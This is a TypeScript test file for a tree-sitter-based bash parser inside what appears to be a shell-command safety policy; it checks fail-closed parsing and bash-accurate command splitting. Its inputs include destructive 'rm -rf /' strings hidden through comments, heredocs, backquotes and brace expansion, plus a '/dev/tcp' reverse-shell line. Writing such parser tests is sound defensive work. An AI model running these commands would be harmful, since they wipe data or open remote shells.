// The tree-sitter glue's own traps, on the real WASM parser: it fails closed until loaded and on any
// error-tolerant reading, and it fixes the places where tree-sitter-bash and bash disagree.
import { initTreeSitter, parseShell } from '../../policies/shell/syntax/tree-sitter.js';
import type { Command, Part, Stmt } from '../../policies/shell/syntax/tree.js';

const lits = (s: Stmt): string[] => (s.cmd?.k === 'call' ? s.cmd.args.map((w) => w.parts.map((p) => (p.t === 'lit' ? p.v : `<${p.t}>`)).join('')) : []);
const only = (text: string): Stmt => {
  const r = parseShell(text);
  if (!r.ok) throw new Error(`${text}: ${r.error}`);
  expect(r.script.stmts).toHaveLength(1);
  return r.script.stmts[0]!;
};
const binary = (c: Command | null): Extract<Command, { k: 'binary' }> => {
  if (c?.k !== 'binary') throw new Error(`not a binary: ${c?.k}`);
  return c;
};

test('before initTreeSitter every parse is refused (the gate fails closed)', () => {
  const r = parseShell('ls');
  expect(r).toEqual({ ok: false, error: expect.stringContaining('not loaded') });
});

describe('after loading', () => {
  beforeAll(async () => {
    await initTreeSitter();
  });

  test.each(['echo "unterminated', 'if true; then', 'a |', 'echo $(', 'ls @(a|b)', 'f() {'])('refuses what does not parse: %s', (text) => {
    expect(parseShell(text).ok).toBe(false);
  });

  test('a redirect after a pipeline belongs to its last command, as bash applies it', () => {
    const p = binary(only('a | b > f').cmd);
    expect(p.x.redirs).toEqual([]);
    expect(p.y.redirs.map((r) => r.op)).toEqual(['>']);
    const l = binary(only('a && b | c 2>&1').cmd);
    expect(l.x.redirs).toEqual([]);
    expect(binary(l.y.cmd).y.redirs.map((r) => `${r.fd}${r.op}`)).toEqual(['2>&']);
  });

  test('words after a redirect are arguments (tree-sitter takes them as more destinations)', () => {
    const s = only('rm 2>/dev/null -rf /');
    expect(lits(s)).toEqual(['rm', '-rf', '/']);
  });

  test('a word tree-sitter leaves out of the tree is put back (`python3 - <<EOF`)', () => {
    expect(lits(only('python3 - <<EOF\nx\nEOF'))).toEqual(['python3', '-']);
  });

  test('{a,b} becomes a brace part, as the evaluator expects; quoted or escaped braces stay literal', () => {
    const [, arg] = (only('echo x{a,{b,c}}y').cmd as { args: { parts: { t: string }[] }[] }).args;
    expect(arg!.parts.map((p) => p.t)).toEqual(['lit', 'brace', 'lit']);
    expect(lits(only('echo "{a,b}" \\{a,b\\} {}'))).toEqual(['echo', '<dq>', '\\{a,b\\}', '{}']);
  });

  test('`echo "x"#; rm -rf /` is two commands, as bash runs it', () => {
    const r = parseShell('echo "x"#; rm -rf /');
    expect(r.ok && r.script.stmts.map(lits)).toEqual([
      ['echo', '<dq>#'],
      ['rm', '-rf', '/'],
    ]);
  });

  test('time and coproc are keywords: time { CMD }, and `time a | b` times the pipeline', () => {
    const t = only('time -p ls > f').cmd;
    expect(t?.k === 'time' && t.stmt && lits(t.stmt)).toEqual(['ls']);
    expect(t?.k === 'time' && t.stmt?.redirs.map((r) => r.op)).toEqual(['>']);
    const p = only('time a | b').cmd;
    expect(p?.k === 'time' && p.stmt?.cmd?.k).toBe('binary');
    const c = only('coproc rm -rf /').cmd;
    expect(c?.k === 'coproc' && lits(c.stmt)).toEqual(['rm', '-rf', '/']);
    // quoted or escaped, or after an assignment, it is the program `time`
    expect(lits(only('\\time ls'))).toEqual(['\\time', 'ls']);
    expect(lits(only('X=1 time ls'))).toEqual(['time', 'ls']);
  });

  test.each(['time { rm -rf /; }', 'coproc x { rm -rf /; }', 'done', 'ls; fi', '}', 'echo a; esac', 'in'])(
    'a keyword tree-sitter takes for a command (or one after time/coproc) is refused: %j',
    (text) => {
      expect(parseShell(text).ok).toBe(false);
    },
  );

  test('the rest of a heredoc line is the list bash builds: `cat <<E | a && b` is (cat | a) && b', () => {
    const l = binary(only('cat <<E | a && b\nx\nE').cmd);
    expect(l.op).toBe('&&');
    const p = binary(l.x.cmd);
    expect([p.op, lits(p.x), lits(p.y), lits(l.y)]).toEqual(['|', ['cat'], ['a'], ['b']]);
    expect(p.x.redirs.map((r) => r.hdoc?.src)).toEqual(['x\n']);
    // bash reads the body from the next line: a list that tree-sitter finds past it is refused
    expect(parseShell('cat <<E |\nrm -rf /\nE\nsh').ok).toBe(false);
  });

  test('a quoted heredoc delimiter is a quoted word (the body is not expanded)', () => {
    const [r] = only("cat <<'E'\n$x\nE").redirs;
    expect(r!.word!.parts).toEqual([{ t: 'sq', v: 'E', ansi: false }]);
    expect(r!.hdoc!.parts).toEqual([{ t: 'lit', v: '$x\n', dq: true }]);
  });

  test('`...` in an unquoted heredoc is a command substitution (bash runs it)', () => {
    const [r] = only('cat <<E\nrun(`rm -rf /`)\nE').redirs;
    const sub = r!.hdoc!.parts.find((p) => p.t === 'cmdsubst');
    expect(sub?.t === 'cmdsubst' && sub.stmts.map(lits)).toEqual([['rm', '-rf', '/']]);
    expect(parseShell('cat <<E\n`unclosed\nE').ok).toBe(false);
  });

  test('{a,b} as the command word is a brace expansion, not a group', () => {
    const s = only('{rm,-rf,/}');
    expect(s.cmd?.k === 'call' && s.cmd.args[0]!.parts.map((p) => p.t)).toEqual(['brace']);
    expect(only('{ ls; }').cmd?.k).toBe('group');
  });

  test("`> f 0>&1`: the 0 is the next redirect's fd; `3<>f` is read-write on fd 3", () => {
    expect(only('bash -i >& /dev/tcp/h/1 0>&1').redirs.map((r) => `${r.fd}${r.op}`)).toEqual(['null>&', '0>&']);
    expect(lits(only('a > f 0 > g'))).toEqual(['a', '0']);
    expect(only('exec 3<>/dev/tcp/h/80').redirs.map((r) => `${r.fd}${r.op}`)).toEqual(['3<>']);
    // only the operator is masked: the words keep what was written
    expect(lits(only("echo '<>' a"))).toEqual(['echo', '<sq>', 'a']);
  });

  test('a heredoc line that starts with blanks keeps its expansions (tree-sitter leaves it as text) and its blanks', () => {
    for (const text of ['cat <<E\n\t$(rm -rf /)\nE', 'cat <<-E\n\t$(rm -rf /)\n\tE', 'cat <<E\nx\n  $(rm -rf /)\nE']) {
      const [r] = only(text).redirs;
      const sub = r!.hdoc!.parts.find((p) => p.t === 'cmdsubst');
      expect({ text, sub: sub?.t === 'cmdsubst' && sub.stmts.map(lits) }).toEqual({ text, sub: [['rm', '-rf', '/']] });
    }
    const [r] = only('cat <<E\n\t\tx $(a)\n  y\nE').redirs;
    expect(r!.hdoc!.parts.map((p) => (p.t === 'lit' ? p.v : `<${p.t}>`))).toEqual(['\t\tx ', '<cmdsubst>', '\n  y\n']);
  });

  test("nested backquotes are read again with bash's backquote escapes taken out", () => {
    const arg = (only('echo `echo \\`rm -rf /\\``').cmd as { args: { parts: Part[] }[] }).args[1]!;
    const outer = arg.parts[0]!;
    const inner = outer.t === 'cmdsubst' && outer.stmts[0]?.cmd?.k === 'call' ? outer.stmts[0].cmd.args[1]!.parts[0] : null;
    expect(inner?.t === 'cmdsubst' && inner.stmts.map(lits)).toEqual([['rm', '-rf', '/']]);
  });

  test.each(['echo ${x#$(rm -rf /)}', 'echo "${x:-\'$(rm -rf /)\'}"'])('an expansion tree-sitter leaves in text is refused: %j', (text) => {
    expect(parseShell(text).ok).toBe(false);
  });
});
